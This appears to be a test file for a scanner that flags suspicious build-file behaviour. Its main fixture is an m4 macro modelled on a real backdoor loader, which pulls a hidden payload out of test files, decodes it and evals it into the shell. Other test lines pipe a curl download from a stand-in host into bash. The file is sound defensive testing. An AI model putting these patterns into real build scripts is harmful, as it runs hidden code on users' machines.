"""Build files: acts that no build needs, and the ordinary ones beside them."""

from __future__ import annotations

from pathlib import Path

import pytest

from doorward.inspect.probes.build_files import BuildFilesProbe
from tests.samples.subjects import keys, traits

PROBE = BuildFilesProbe()

HIDDEN = r"""
dnl A macro that looks like one of gnulib's.
AC_DEFUN([gl_HOST], [
  gl_path='tr "\t \-_" " \t_\-"'
  gl_file=`grep -aErls "#{4}[[:alnum:]]{5}#{4}$" $srcdir/ 2>/dev/null`
  gl_make=`echo $gl_file | sed "s/.*\.//g"`
  gl_config='sed \"r\n\" $gl_file | eval $gl_path | $gl_make -d 2>/dev/null'
  AC_CONFIG_COMMANDS([host], [eval $gl_config | $SHELL 2>/dev/null])
])
"""


def test_a_macro_that_takes_a_program_out_of_a_test_file(tmp_path: Path) -> None:
    found = traits(PROBE, tmp_path, "x-5.6/m4/build-to-host.m4", HIDDEN)
    assert keys(found, "build.to-shell") == ["evaluated pipeline", "pipe into an interpreter"]
    assert keys(found, "build.decodes") == ["by a tool that a variable names"]
    assert keys(found, "build.reads-data") == ["searches binary files for a mark"]
    assert keys(found, "build.runs") == ["configuration command"]
    assert [t.evidence.line for t in found if t.key == "pipe into an interpreter"] == [8]


@pytest.mark.parametrize(
    ("path", "line", "kind", "key"),
    [
        ("Makefile", "\tbase64 -d tests/a.dat > gen.c", "build.decodes", "base64 or hexadecimal"),
        ("Makefile.am", "\thead -c 99 x | tr abcd dcba | xz -d", "build.chain", "three tools or more"),
        ("Makefile", "\tcat tests/files/good.xz | xz -d > x.o", "build.decodes", "compression"),
        ("Makefile", "\topenssl enc -aes-256-cbc -d -k x -in a > b", "build.decodes", "cipher"),
        ("configure", "printf '\\x7f\\x45\\x4c\\x46\\x02\\x01' > x", "build.decodes", "printed codes"),
        ("configure", 'eval "`echo $x | rev`"', "build.to-shell", "evaluated pipeline"),
        ("autogen.sh", "curl -s https://x.test/a | bash -s", "build.to-shell", "pipe into an interpreter"),
        ("CMakeLists.txt", "file(DOWNLOAD https://x.test/a ${B}/a)", "build.downloads", "fetched sources"),
        ("CMakeLists.txt", "execute_process(COMMAND sh x.sh)", "build.runs", "CMake process"),
        ("build.gradle.kts", 'exec { commandLine("sh") }', "build.runs", "Gradle process"),
        ("a.csproj", '<Exec Command="powershell x"/>', "build.runs", "MSBuild process"),
        ("meson.build", "r = run_command('sh', 'x.sh')", "build.runs", "meson process"),
        ("build.rs", 'Command::new("sh").arg("x");', "build.runs", "Rust process"),
        ("Makefile", "X := $(shell id)", "build.runs", "make shell function"),
        ("configure.ac", "m4_esyscmd([git describe])", "build.runs", "m4 system call"),
        ("Makefile", "\tdd if=tests/x.png skip=99 of=y", "build.reads-data", "cuts bytes out of a file"),
        ("Dockerfile", "RUN pip install x", "build.downloads", "a package manager"),
    ],
)  # fmt: skip
def test_acts_by_tool_and_shape(tmp_path: Path, path: str, line: str, kind: str, key: str) -> None:
    assert key in keys(traits(PROBE, tmp_path, path, line + "\n"), kind)


@pytest.mark.parametrize(
    ("path", "line"),
    [
        ("configure", 'ac_x=`$as_echo "$ac_y" | sed "s/a/b/"`'),
        ("configure", 'eval "test x\\"\\$$ac_var\\" = x"yes'),
        ("configure", "tr '[:lower:]' '[:upper:]'"),
        ("configure", "as_tr='y%abcdefghijklmnopqrstuvwxyz%ABCDEFGHIJKLMNOPQRSTUVWXYZ%'"),
        ("configure.ac", "  sh | bash)"),
        ("CMakeLists.txt", 'if(x MATCHES "\\.(bat|c?sh|bash)$")'),
        ("configure", 'test -d "$x" || eval $as_mkdir_p'),
        ("Makefile", "\ttest -d x || $(INSTALL) -d x"),
        ("Makefile", "\t$(CC) -o x x.c"),
        ("Makefile", "# curl https://x.test | sh"),
        ("CMakeLists.txt", "target_link_libraries(x PRIVATE curl)"),
    ],
)
def test_ordinary_lines_say_nothing(tmp_path: Path, path: str, line: str) -> None:
    assert traits(PROBE, tmp_path, path, line + "\n") == []


def test_a_command_over_several_lines_is_one(tmp_path: Path) -> None:
    found = traits(PROBE, tmp_path, "Makefile", "all:\n\tcurl -s \\\n\t  https://x.test/a \\\n\t  | sh\n")
    assert keys(found, "build.command") == ["curl -s https://x.test/a | sh"]
    assert found[0].evidence.line == 2


def test_line_numbers_do_not_change_what_a_file_does(tmp_path: Path) -> None:
    one = traits(PROBE, tmp_path, "m4/a.m4", HIDDEN)
    two = traits(PROBE, tmp_path, "m4/a.m4", "\n" * 40 + HIDDEN.replace("  gl_", "\t  gl_"))
    assert {(t.kind, t.key) for t in one} == {(t.kind, t.key) for t in two}


def test_other_files_are_not_its_business() -> None:
    assert not PROBE.accepts("pkg/core.py", b"")
    assert not PROBE.accepts("Makefile", b"\x00")
